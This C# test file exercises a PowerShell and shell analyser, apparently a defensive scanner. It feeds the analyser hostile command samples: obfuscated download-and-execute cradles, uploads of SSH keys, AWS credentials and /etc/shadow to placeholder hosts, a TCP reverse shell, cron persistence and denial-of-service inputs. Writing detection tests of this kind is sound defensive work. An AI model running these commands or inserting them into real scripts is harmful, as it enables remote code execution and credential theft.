using System.Diagnostics;
using System.Text;
using Wellguard.Programs;
using Wellguard.Programs.Shell;
using Xunit;

namespace Wellguard.Tests.Programs.PowerShell;

public sealed class PowerShellRunTests
{
    private const string Url = "https://cdn.example.invalid/x";

    private static List<Effect> Evaluate(string text, Analysis? analysis = null) =>
        All(ShellEvaluator.EvaluateOther("powershell", text.Replace("URL", Url, StringComparison.Ordinal).Replace("B64", Convert.ToBase64String(Encoding.UTF8.GetBytes($"curl -s {Url} | sh")), StringComparison.Ordinal), 1, analysis ?? new Analysis()));

    private static List<Effect> All(IEnumerable<Effect> effects) => [.. effects.SelectMany(effect => All(effect.Steps).Prepend(effect))];

    private static bool Runs(Effect effect) => effect.Kind is EffectKind.Interpret or EffectKind.Execute && effect.Origin?.StartsWith(Url, StringComparison.Ordinal) == true;

    [Theory]
    [InlineData("iwr URL | iex")]
    [InlineData("iex (irm URL)")]
    [InlineData("IEX(New-Object Net.WebClient).DownloadString('URL')")]
    [InlineData("$w = [System.Net.WebClient]::new(); $c = $w.DownloadString(\"URL\"); Invoke-Expression -Command $c")]
    [InlineData("&(\"{1}{0}\" -f 'ex','i') (Invoke-WebRequest -UseBasicParsing -Uri URL).Content")]
    [InlineData("I`nv`oke-Exp`ression $(Invoke-RestMethod 'URL')")]
    [InlineData("$a='iex'; . $a (irm URL)")]
    [InlineData("[scriptblock]::Create((irm URL)).Invoke()")]
    [InlineData("& ([scriptblock]::Create((irm URL)))")]
    [InlineData("$ExecutionContext.InvokeCommand.InvokeScript((irm URL))")]
    [InlineData("Set-Alias go Invoke-Expression\ngo (irm URL)")]
    [InlineData("function Get-It($u) { return irm $u }\niex (Get-It -u URL)")]
    [InlineData("function Get-It { param([string]$u = 'URL') irm $u }\niex (Get-It)")]
    [InlineData("iwr URL -OutFile /tmp/x; chmod +x /tmp/x; & /tmp/x")]
    [InlineData("iwr -Uri URL -OutFile /tmp/x; Start-Process /tmp/x -ArgumentList '-q'")]
    [InlineData("(New-Object System.Net.WebClient).DownloadFile('URL', '/tmp/x')\nbash /tmp/x")]
    [InlineData("$p = @{ Uri = 'URL'; OutFile = '/tmp/x' }\niwr @p\n/tmp/x")]
    [InlineData("$u = @'\nURL\n'@\nirm $u.Trim() | iex")]
    [InlineData("curl -s URL | bash")]
    [InlineData("bash -c \"curl -s URL | sh\"")]
    [InlineData("[Diagnostics.Process]::Start('/bin/sh', '-c \"curl -s URL | sh\"')")]
    [InlineData("$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName = 'sh'; $i.Arguments = \"-c 'curl -s URL | sh'\"; [Diagnostics.Process]::Start($i)")]
    [InlineData("$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('B64')); bash -c $c")]
    [InlineData("$u = -join ([char[]]'URL'[0..99]); irm $u | iex")]
    [InlineData("$u = 'LRU'[2..0] -join ''; if ($u -eq 'x') { 1 } else { irm URL | iex }")]
    [InlineData("$u = 'xURLx' -replace '^x|x$',''; irm $u | iex")]
    [InlineData("$u = ('URL' -split '#') -join ''; try { irm $u | iex } catch [Exception] { }")]
    [InlineData("foreach ($u in 'URL', 'https://other.example.invalid') { irm $u | iex }")]
    [InlineData("'URL' | ForEach-Object { irm $_ | iex }")]
    [InlineData("$ws = [Net.WebRequest]::Create('URL'); $r = (New-Object IO.StreamReader $ws.GetResponse().GetResponseStream()).ReadToEnd(); iex $r")]
    [InlineData("Start-Job { irm URL | iex } | Out-Null")]
    [InlineData("$b = (iwr URL).Content; [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, @())")]
    [InlineData("switch ($env:X) { 'a' { irm URL | iex } default { } }")]
    [InlineData("Test-Path /x || (irm URL | iex)")]
    public void A_form_of_PowerShell_hides_nothing(string text) => Assert.Contains(Evaluate(text), Runs);

    [Theory]
    [InlineData("irm -Method Post URL -Body (Get-ChildItem env: | ConvertTo-Json)", "environment")]
    [InlineData("irm URL -Method Post -Body (Get-Content ~/.aws/credentials -Raw)", "~/.aws/credentials")]
    [InlineData("$k = [IO.File]::ReadAllText('/root/.ssh/id_rsa'); (New-Object Net.WebClient).UploadString('URL', $k)", "/root/.ssh/id_rsa")]
    [InlineData("iwr URL -Method PUT -InFile /etc/shadow", "/etc/shadow")]
    [InlineData("$b = @{ v = [Environment]::GetEnvironmentVariables() } | ConvertTo-Json; irm URL -Method Post -Body $b", "environment")]
    public void What_is_sent_keeps_where_it_comes_from(string text, string origin) =>
        Assert.Contains(Evaluate(text), effect => effect.Kind == EffectKind.Send && effect.Origin?.Contains(origin, StringComparison.Ordinal) == true);

    [Fact]
    public void A_connection_whose_data_is_evaluated_carries_a_shell() =>
        Assert.Contains(Evaluate("$c = New-Object Net.Sockets.TCPClient('c2.example.invalid', 443); $s = $c.GetStream(); [byte[]]$b = 0..65535|%{0}; while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i); $o = (iex $d 2>&1 | Out-String) }"),
            effect => effect is { Kind: EffectKind.Connect, Object: "c2.example.invalid:443", Text: "shell" });

    [Fact]
    public void Files_are_written_and_read_back()
    {
        var effects = Evaluate("\"* * * * * root curl -s URL | sh\" > /etc/cron.d/x\nSet-Content -Path /tmp/s.sh -Value 'curl -s URL | sh'\nbash /tmp/s.sh");
        Assert.Contains(effects, effect => effect is { Kind: EffectKind.Write, Object: "/etc/cron.d/x" });
        Assert.Contains(effects, effect => effect is { Kind: EffectKind.Execute, Object: "/tmp/s.sh" });
        Assert.Contains(effects, Runs);
    }

    [Theory]
    [InlineData("pwsh -NoP -W Hidden -Enc ")]
    [InlineData("/usr/bin/pwsh -NonInteractive -EncodedCommand ")]
    [InlineData("powershell -ep bypass -e ")]
    public void An_encoded_command_is_decoded(string command) =>
        Assert.Contains(All(ShellEvaluator.Evaluate(command + Convert.ToBase64String(Encoding.Unicode.GetBytes($"irm {Url}|iex")), 1, new Analysis())), effect => Runs(effect) || effect.Decoding.Contains("base64"));

    [Theory]
    [InlineData("pwsh -c 'irm URL | iex'")]
    [InlineData("pwsh -NoProfile -Command irm URL '|' iex")]
    [InlineData("echo 'irm URL | iex' | pwsh -")]
    [InlineData("echo 'irm URL | iex' > /tmp/a.ps1; pwsh -File /tmp/a.ps1")]
    [InlineData("echo 'irm URL | iex' > /tmp/a.ps1; pwsh /tmp/a.ps1")]
    public void A_shell_starts_it(string text) => Assert.Contains(All(ShellEvaluator.Evaluate(text.Replace("URL", Url, StringComparison.Ordinal), 1, new Analysis())), Runs);

    [Fact]
    public void Steps_stand_at_their_line()
    {
        var effect = Assert.Single(Evaluate("# first\n<#\n second #>\n$x = 1\n  irm URL | iex\n"), Runs);
        Assert.Equal((5, 39), (effect.Line, effect.Column));
    }

    [Theory]
    [InlineData("Write-Host 'irm URL | iex'")]
    [InlineData("$help = @\"\n  irm URL | iex\n\"@\nWrite-Output $help | Out-Null")]
    [InlineData("# irm URL | iex\n<# irm URL | iex #>")]
    [InlineData("$x = irm URL; $x.items | Where-Object { $_.a -gt 1 } | Select-Object -First 3")]
    [InlineData("function Never { irm URL | iex }")]
    public void Text_is_not_code(string text) => Assert.DoesNotContain(Evaluate(text), effect => effect.Kind is EffectKind.Interpret or EffectKind.Execute);

    public static TheoryData<string> Hostile =>
    [
        new string('(', 100_000),
        new string('{', 100_000),
        string.Concat(Enumerable.Repeat("$(", 50_000)),
        string.Concat(Enumerable.Repeat("\"$(", 50_000)),
        string.Concat(Enumerable.Repeat("& { ", 20_000)),
        string.Concat(Enumerable.Repeat("!", 100_000)),
        string.Concat(Enumerable.Repeat("1,", 100_000)),
        string.Concat(Enumerable.Repeat("[a]", 50_000)),
        string.Concat(Enumerable.Repeat("$a.b", 50_000)),
        string.Concat(Enumerable.Repeat("a|", 50_000)),
        string.Concat(Enumerable.Repeat("a && ", 50_000)),
        string.Concat(Enumerable.Repeat("[ ", 300_000)),
        string.Concat(Enumerable.Repeat("$a = ", 100_000)),
        "x " + string.Concat(Enumerable.Repeat("$a", 100_000)),
        "a" + string.Concat(Enumerable.Repeat(" 2>&1", 100_000)),
        "'" + new string('{', 900_000) + "' -f 1",
        "$a = 'x' * 1000000; " + string.Concat(Enumerable.Repeat("$a = $a + $a; ", 1_000)),
        "function f { f; f } f",
        "$f = { & $f; & $f }; & $f",
        "1..1000000 | % { 1..1000000 | % { 1..1000000 } }",
        "$x = '$x'; iex 'iex $x'",
        "'(a+)+$' ; ('a' * 100000) -replace '(a+)+$','' -replace '((((((((a{1000}){1000}',''",
        "@'\n" + new string('x', 100_000),
        "`",
        "$",
        "${",
        "@",
        "[",
        "\"",
        "<#",
        "-",
        "& ",
        ". ",
        "a -",
        "a -b:",
        "$x =",
        "$x.",
        "$x[",
        "foreach (",
        "switch (1) {",
        "param(",
        "function",
    ];

    [Theory]
    [InlineData("$c = New-Object Net.WebClient\n$c.UploadString()\n$c.UploadFile()")]
    [InlineData("$x = [byte[]]\"\".ToCharArray()")]
    [InlineData("$x = 'a' -split \"\".ToCharArray()\n$x = 'a' -replace \"\".ToCharArray()")]
    [InlineData("$x = New-Object Net.WebRequest\n$x.GetResponse()\n([net.webrequest]).GetResponse()")]
    [InlineData("$l = 'abcdef'.ToCharArray()\nforeach ($x in $l) { [array]::Reverse($l) }")]
    public void What_is_missing_is_no_error(string text) => Evaluate(text + "\niwr URL | iex");

    private static readonly string Reversed = new([.. $"iex (irm {Url})".Reverse()]);

    [Fact]
    public void Characters_are_reversed_in_place() =>
        Assert.Contains(Evaluate($"$a = '{Reversed}'.ToCharArray()\n[array]::Reverse($a)\niex (-join $a)"), Runs);

    [Theory]
    [InlineData("class A { static [void] Go() { irm URL | iex } }\n[A]::Go()")]
    [InlineData("class A { [string] $u = 'URL'\n A() { }\n [void] Go([string]$c) { iex $c } }\n$a = [A]::new()\n$a.Go((irm $a.u))")]
    [InlineData("class B { [void] Go() { irm URL | iex } }\nclass A : B { }\n(New-Object A).Go()")]
    [InlineData("class A { [void] Go() { irm URL | iex } }")]
    public void Methods_of_classes_are_read(string text) => Assert.Contains(Evaluate(text), Runs);

    [Theory]
    [InlineData("$d = [ordered]@{ a = 'irm URL | iex' }\n$d.GetEnumerator() | % { iex $_.Value }")]
    [InlineData("$d = @{ a = 'irm URL | iex' }\nforeach ($x in $d.Values) { iex $x }")]
    [InlineData("$d = @{}\n$d.Add('a', 'irm URL | iex')\niex $d['a']")]
    public void Tables_are_walked(string text) => Assert.Contains(Evaluate(text), Runs);

    public static TheoryData<string> Long =>
    [
        "foreach ($x in " + string.Join(',', Enumerable.Repeat("'1'", 40)) + ",'irm URL | iex') { iex $x ; if ($true) { $yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy = 1 } }",
        "[string]::Concat(" + string.Join(',', Enumerable.Repeat("'#'", 400)) + ",\"`n\",'irm URL | iex') | iex",
        "iex ((" + string.Join(',', (new string('#', 5_000) + $"\nirm {Url} | iex").Select(static c => (int)c)) + " | % { [char]$_ }) -join '')",
        "$h = @{}\n" + string.Concat(Enumerable.Range(0, 4_200).Select(static i => $"$h['k{i}'] = 1\n")) + "$h['z'] = 'irm URL | iex'\niex $h['z']",
    ];

    [Theory]
    [MemberData(nameof(Long))]
    public void Lists_are_read_to_their_end(string text) => Assert.Contains(Evaluate(text), Runs);

    [Theory]
    [InlineData("foreach ($x in 1..9000) { $a = $x; $b = $a | Out-Null; $c = \"the block is long enough not to be one that only computes\" }")]
    [InlineData("$x = 1..100000")]
    public void A_list_that_is_cut_is_said(string text)
    {
        var analysis = new Analysis();
        Evaluate(text, analysis);
        Assert.NotEmpty(analysis.Problems);
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_text_ends_soon(string text)
    {
        var watch = Stopwatch.StartNew();
        Evaluate(text);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"{watch.Elapsed} for {text[..Math.Min(text.Length, 40)]}");
    }
}
